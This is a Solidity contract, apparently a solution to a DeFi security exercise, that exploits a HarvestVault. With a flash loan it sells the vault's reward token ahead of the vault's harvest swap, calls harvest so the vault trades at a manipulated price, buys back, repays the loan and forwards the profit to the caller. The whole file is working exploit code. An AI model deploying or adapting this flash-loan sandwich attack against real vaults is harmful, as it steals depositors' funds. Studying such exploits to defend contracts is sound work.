// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {FlashLender, IFlashBorrower} from "../../shared/contracts/FlashLender.sol";
import {HarvestVault} from "../../shared/contracts/HarvestVault.sol";
import {Pair} from "../../shared/contracts/Pair.sol";
import {Router} from "../../shared/contracts/Router.sol";
import {Token} from "../../shared/contracts/Token.sol";

/// @title Sells before the vault does, and buys back after it, all with borrowed money
contract Bread is IFlashBorrower {
    HarvestVault private immutable vault;
    Router private immutable router;

    constructor(HarvestVault vault_) {
        vault = vault_;
        router = vault_.router();
    }

    function attack(FlashLender lender, uint256 amount) external {
        lender.flashLoan(this, vault.reward(), amount, "");
        vault.reward().transfer(msg.sender, vault.reward().balanceOf(address(this)));
    }

    function onFlashLoan(Token reward, uint256 amount, uint256 fee, bytes calldata) external {
        Token asset = vault.asset();
        Pair[] memory path = new Pair[](1);
        path[0] = vault.pair();
        reward.approve(address(router), type(uint256).max);
        asset.approve(address(router), type(uint256).max);
        uint256 sold = router.swapExactIn(reward, path, amount, 0, address(this));
        vault.harvest(reward.balanceOf(address(vault)));
        router.swapExactIn(asset, path, sold, 0, address(this));
        reward.transfer(msg.sender, amount + fee);
    }
}
